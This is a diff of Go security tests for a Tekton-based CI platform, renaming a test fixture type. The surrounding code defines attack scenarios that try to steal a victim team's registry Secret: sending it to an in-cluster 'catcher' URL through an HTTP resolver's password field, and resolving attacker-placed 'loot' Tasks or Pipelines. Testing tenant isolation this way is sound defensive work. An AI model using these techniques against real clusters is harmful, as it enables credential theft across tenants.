@@ -18,20 +18,20 @@ import (
 // A resolver fetches code of the attacker's from elsewhere, and may send a Secret there.
 var resolverAttacks = map[string]attack{
 	"a Secret for a resolver": {
-		send: func(ctx context.Context, f *field, name string, _ *pipelinev1.PipelineRun) error {
+		send: func(ctx context.Context, f *playground, name string, _ *pipelinev1.PipelineRun) error {
 			return f.resolved(ctx, name, "platform", "http", "url", "http://"+catcher+"."+stage.Platform.Namespace+".svc/"+name,
 				"http-username", "x", "http-password-secret", victim.Secret, "http-password-secret-key", corev1.DockerConfigJsonKey)
 		},
-		won: func(t *testing.T, ctx context.Context, f *field, name string, _ *pipelinev1.PipelineRun) {
+		won: func(t *testing.T, ctx context.Context, f *playground, name string, _ *pipelinev1.PipelineRun) {
 			prints(t, ctx, stage.Platform.Namespace, "app="+catcher, name, f.robot)
 		},
 	},
 	// Tekton copies the labels of a Task that it resolved onto the TaskRun.
 	"a Task with a label": {
-		send: func(ctx context.Context, f *field, name string, _ *pipelinev1.PipelineRun) error {
+		send: func(ctx context.Context, f *playground, name string, _ *pipelinev1.PipelineRun) error {
 			return f.resolved(ctx, name, "", "cluster", "kind", "task", "name", "loot-first", "namespace", stage.Platform.Namespace)
 		},
-		won: func(t *testing.T, ctx context.Context, f *field, name string, _ *pipelinev1.PipelineRun) {
+		won: func(t *testing.T, ctx context.Context, f *playground, name string, _ *pipelinev1.PipelineRun) {
 			prints(t, ctx, stage.SharedNamespace, "tekton.dev/taskRun="+name, f.robot)
 		},
 	},
@@ -43,32 +43,32 @@ var resolverAttacks = map[string]attack{
 
 // ownTask is a run of the own team whose Task is in the attacker's namespace.
 func ownTask(task string) attack {
-	return pipelineRun(func(*field) pipelinev1.PipelineRunSpec {
+	return pipelineRun(func(*playground) pipelinev1.PipelineRunSpec {
 		return pipelinev1.PipelineRunSpec{PipelineSpec: &pipelinev1.PipelineSpec{Tasks: []pipelinev1.PipelineTask{{Name: "t",
 			TaskRef: &pipelinev1.TaskRef{ResolverRef: resolver("cluster", "kind", "task", "name", task, "namespace", stage.Platform.Namespace)}}}}}
 	})
 }
 
 // pipelineRun is a run of the own team that prints the victim's Secret.
-func pipelineRun(spec func(*field) pipelinev1.PipelineRunSpec) attack {
+func pipelineRun(spec func(*playground) pipelinev1.PipelineRunSpec) attack {
 	return attack{
-		send: func(ctx context.Context, f *field, name string, _ *pipelinev1.PipelineRun) error {
+		send: func(ctx context.Context, f *playground, name string, _ *pipelinev1.PipelineRun) error {
 			_, err := f.attacker.TektonV1().PipelineRuns(stage.SharedNamespace).Create(ctx, &pipelinev1.PipelineRun{
 				ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{"apps.platform/team": "platform"}}, Spec: spec(f)}, metav1.CreateOptions{})
 			return err
 		},
-		won: func(t *testing.T, ctx context.Context, f *field, name string, _ *pipelinev1.PipelineRun) {
+		won: func(t *testing.T, ctx context.Context, f *playground, name string, _ *pipelinev1.PipelineRun) {
 			prints(t, ctx, stage.SharedNamespace, "tekton.dev/pipelineRun="+name, f.robot)
 		},
 	}
 }
 
-func resolvedPipeline(*field) pipelinev1.PipelineRunSpec {
+func resolvedPipeline(*playground) pipelinev1.PipelineRunSpec {
 	return pipelinev1.PipelineRunSpec{PipelineRef: &pipelinev1.PipelineRef{
 		ResolverRef: resolver("cluster", "kind", "pipeline", "name", "loot", "namespace", stage.Platform.Namespace)}}
 }
 
-func secretFromResult(f *field) pipelinev1.PipelineRunSpec {
+func secretFromResult(f *playground) pipelinev1.PipelineRunSpec {
 	named := f.reads([2]string{"$(params.names[0])", corev1.DockerConfigJsonKey})
 	named.Params = pipelinev1.ParamSpecs{{Name: "names", Type: pipelinev1.ParamTypeArray}}
 	return pipelinev1.PipelineRunSpec{PipelineSpec: &pipelinev1.PipelineSpec{Tasks: []pipelinev1.PipelineTask{
@@ -80,7 +80,7 @@ func secretFromResult(f *field) pipelinev1.PipelineRunSpec {
 }
 
 // resolved sends a TaskRun of a team, or of none, whose Task a resolver fetches.
-func (f *field) resolved(ctx context.Context, name, team, by string, params ...string) error {
+func (f *playground) resolved(ctx context.Context, name, team, by string, params ...string) error {
 	run := &pipelinev1.TaskRun{ObjectMeta: metav1.ObjectMeta{Name: name}, Spec: pipelinev1.TaskRunSpec{TaskRef: &pipelinev1.TaskRef{ResolverRef: resolver(by, params...)}}}
 	if team != "" {
 		run.Labels = map[string]string{"apps.platform/team": team}
@@ -99,7 +99,7 @@ func resolver(by string, params ...string) pipelinev1.ResolverRef {
 }
 
 // putOwnTasks puts Tasks and a Pipeline with labels of the victim's into the attacker's namespace, as the attacker, until the end of the test.
-func (f *field) putOwnTasks(t *testing.T, ctx context.Context) {
+func (f *playground) putOwnTasks(t *testing.T, ctx context.Context) {
 	t.Helper()
 	loot := f.reads([2]string{victim.Secret, corev1.DockerConfigJsonKey})
 	client := f.own.TektonV1()
